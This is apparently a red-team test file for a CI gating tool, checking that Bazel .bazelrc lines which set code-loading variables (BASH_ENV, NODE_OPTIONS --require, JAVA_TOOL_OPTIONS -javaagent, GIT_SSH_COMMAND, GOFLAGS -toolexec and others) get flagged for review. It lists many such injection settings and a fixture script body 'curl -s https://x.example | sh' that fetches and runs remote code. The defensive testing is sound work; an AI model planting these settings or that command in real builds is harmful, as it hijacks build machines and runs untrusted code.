"""Red team 40: Bazel `--repo_env`/`--action_env`/`--host_action_env` lines that make every process of the build load
code, through a variable bazelenv.py (classes56) did not know.

bazelenv.py makes a line `ci` when its variable names a program (`CC`, `PATH`, `BAZEL_SH`, `*_BINARY`, ...). A
variable that makes the shell, the interpreter, the JVM, git or the compiler driver load or run a file is as strong:
`BASH_ENV` is sourced by every non-interactive bash (each genrule's and repository rule's command), `NODE_OPTIONS=
--require=…`, `JAVA_TOOL_OPTIONS=-javaagent:…`, `RUBYOPT=-r…`, `PERL5OPT=-M…`, `PYTHONPATH` (a `sitecustomize.py`
there runs first), `GIT_SSH_COMMAND` (the program git runs to fetch over ssh), `GIT_CONFIG_GLOBAL` (hooks, `core.
fsmonitor`), compiler flags (`CFLAGS=-B…` picks the assembler and linker, `RUSTFLAGS=-Clinker=…`), `GOFLAGS=
-toolexec=…`, `MAKEFLAGS`, `PKG_CONFIG`. On main 2b38496 each such line was `other` (a `.bazelrc`) or `deps`
(`GOFLAGS`, a host variable there) and the default gate allowed it from the patch and with --tree; a repository file
the line names (`--action_env=BASH_ENV=%workspace%/tools/env.sh`) stayed `src` and its edit was allowed too.
Look-alikes (tests/test_classes56_bazel_env.py's CALM lines) keep their class there.
"""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from tables import each_case

from gatekeeper.classify.platformshapes import platform_shape

FLAGS = "build --jobs=4\ncommon --enable_bzlmod\n"
WORKFLOW = ("on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - run: bazel build //...\n")
OPTIONS = ("repo_env", "action_env", "host_action_env")
LOADERS = (
    "BASH_ENV=/tmp/env.sh", "ENV=/tmp/env.sh", "NODE_OPTIONS=--require=/tmp/hook.js", "NODE_PATH=/tmp/node",
    "JAVA_TOOL_OPTIONS=-javaagent:/tmp/agent.jar", "_JAVA_OPTIONS=-javaagent:/tmp/a.jar",
    "JDK_JAVA_OPTIONS=-javaagent:/tmp/a.jar", "PYTHONPATH=/tmp/site", "PYTHONSTARTUP=/tmp/s.py",
    "RUBYOPT=-r/tmp/boot.rb", "RUBYLIB=/tmp/lib", "PERL5OPT=-Mhook", "PERL5LIB=/tmp/lib",
    "GIT_SSH_COMMAND=/tmp/ssh.sh", "GIT_SSH=/tmp/ssh", "GIT_ASKPASS=/tmp/pass.sh", "GIT_CONFIG_GLOBAL=/tmp/gitconfig",
    "GIT_EXEC_PATH=/tmp/git", "CFLAGS=-B/tmp/bin", "CXXFLAGS=-fplugin=/tmp/p.so", "LDFLAGS=-fuse-ld=/tmp/ld",
    "CGO_LDFLAGS=-fuse-ld=/tmp/ld", "RUSTFLAGS=-Clinker=/tmp/ld.sh", "GOFLAGS=-toolexec=/tmp/x.sh",
    "MAKEFLAGS=SHELL=/tmp/sh", "PKG_CONFIG=/tmp/pc.sh", "CLASSPATH=/tmp/a.jar", "LD_AUDIT=/tmp/a.so",
    "MAVEN_OPTS=-javaagent:/tmp/a.jar", "BAZEL_LINKOPTS=-fuse-ld=/tmp/ld",
    "CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_LINKER=/tmp/ld.sh",
)
NAMES = (".bazelrc", "ci.bazelrc", ".bazelrc.user", "tools/bazel/ci.rc")


@each_case("option", OPTIONS)
@each_case("setting", LOADERS)
def test_a_line_that_makes_the_build_load_code_is_ci(option: str, setting: str) -> None:
    for name in NAMES:
        for form in (f"build --{option}={setting}", f"build:ci --{option} {setting}", f'common "--{option}={setting}"'):
            shape = platform_shape(name.rpartition("/")[2], FLAGS + form + "\n")
            assert shape is not None and shape[:2] == ("ci", "ci.content.bazel-hook"), (name, form, shape)


def _base(path: str) -> dict[str, str]:
    return {".github/workflows/ci.yml": WORKFLOW, "MODULE.bazel": 'module(name = "app")\n', path: FLAGS}


@each_case("line", ("build --action_env=BASH_ENV=/tmp/env.sh",
                                  "build --repo_env=NODE_OPTIONS=--require=/tmp/hook.js",
                                  "common --host_action_env=JAVA_TOOL_OPTIONS=-javaagent:/tmp/a.jar",
                                  "build --action_env=GOFLAGS=-toolexec=/tmp/x.sh",
                                  "build --repo_env=GIT_SSH_COMMAND=/tmp/ssh.sh",
                                  "build --action_env=PYTHONPATH=/tmp/site"))
def test_the_gate_reviews_the_line_both_ways(tmp_path: Path, line: str) -> None:
    case = committed(tmp_path, _base(".bazelrc"), {".bazelrc": FLAGS + line + "\n"})
    for tree in (False, True):
        code, named = gated_rules(case, tree)
        assert code == 3 and named.get("core.ci") == [".bazelrc"], (tree, named)  # main 2b38496: exit 0


SCRIPTS = {
    "build --action_env=BASH_ENV=%workspace%/tools/env.sh": "tools/env.sh",
    "build --repo_env=GIT_SSH_COMMAND=%workspace%/tools/ssh.sh": "tools/ssh.sh",
    "build --action_env=NODE_OPTIONS=--require=%workspace%/tools/hook.js": "tools/hook.js",
    "build --action_env=NODE_OPTIONS='--require %workspace%/tools/hook.js'": "tools/hook.js",
    "build --action_env=RUBYOPT=-r%workspace%/tools/boot.rb": "tools/boot.rb",
    "build --action_env=GOFLAGS=-toolexec=%workspace%/tools/exec.sh": "tools/exec.sh",
    "build --action_env=RUSTFLAGS=-Clinker=%workspace%/tools/ld.sh": "tools/ld.sh",
    "build --action_env=GIT_CONFIG_GLOBAL=%workspace%/tools/gitconfig": "tools/gitconfig",
}


# Not here: a jar or a shared object such a line loads (`-javaagent:%workspace%/tools/agent.jar`, `LD_PRELOAD`): the
# run-control hooks look up script-like files only (red team 38's limit, kept); the line itself is ci above.


@each_case("line", SCRIPTS)
def test_a_file_the_line_loads_is_ci_with_the_tree(tmp_path: Path, line: str) -> None:
    path = SCRIPTS[line]
    base = _base(".bazelrc") | {".bazelrc": FLAGS + line + "\n", path: "#!/bin/sh\ntrue\n"}
    case = committed(tmp_path, base, {path: "#!/bin/sh\ncurl -s https://x.example | sh\n"})
    code, named = gated_rules(case, True)
    assert code == 3 and named.get("core.ci") == [path], named  # main 2b38496: src/other, exit 0


CALM = ("build --action_env=LANG=C.UTF-8", "build --repo_env=CGO_ENABLED=0", "build --action_env=NODE_OPTIONS",
        "test --test_env=BASH_ENV=/tmp/env.sh", "# build --repo_env=BASH_ENV=/tmp/env.sh", "build --action_env=TZ=UTC",
        "build --repo_env=BAZEL_DO_NOT_DETECT_CPP_TOOLCHAIN=1", "build --action_env=GOOS=linux")


@each_case("line", CALM)
def test_look_alikes_are_neither(line: str) -> None:
    for name in NAMES:
        assert platform_shape(name.rpartition("/")[2], FLAGS + line + "\n") is None, (name, line)
